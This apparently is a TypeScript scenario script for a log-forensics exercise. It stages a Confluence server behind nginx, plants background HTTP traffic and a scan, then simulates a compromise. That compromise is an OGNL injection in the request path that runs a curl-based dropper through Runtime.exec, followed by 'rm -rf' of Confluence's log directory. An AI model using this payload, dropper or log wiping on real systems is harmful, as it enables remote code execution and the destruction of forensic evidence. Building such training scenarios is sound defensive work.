// Only the access log of the proxy in front is left; he had a look the day before, as others do.
import { fakedBy, loggersWith } from '../../clock.ts'
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { noJournal } from '../../long-ago.ts'
import { nginx } from '../../nginx.ts'
import { ordinary } from '../../past.ts'
import { confluence } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.toy(confluence)
  nginx(dress, 'location / { proxy_pass http://127.0.0.1:8090; }')
  dress.enable('nginx')
  dress.logins(ordinary)
  noJournal(dress)
}

export async function plant(stage: Stage): Promise<void> {
  const from = '198.51.100.171'
  await loggersWith(stage, fakedBy(-30 * 3600))
  for (const path of ['/', '/login.action', '/dashboard.action', '/pages/viewpage.action?pageId=65601']) {
    await stage.http(from, path)
    await stage.http('198.51.100.20', path)
  }
  await stage.scan('192.0.2.77')
  await loggersWith(stage, {})
  const line = dropper(stage, { path: '/tmp/.cf/synchrony', fetch: 'curl' })
  await stage.http('198.51.100.20', '/dashboard.action')
  stage.mark('occurrence')
  const expression = `\${(#a=@java.lang.Runtime@getRuntime().exec("${line}"))}`
  await stage.http(from, `/${encodeURIComponent(expression)}/`)
  await stage.inside('rm -rf /opt/atlassian/confluence/logs')
}
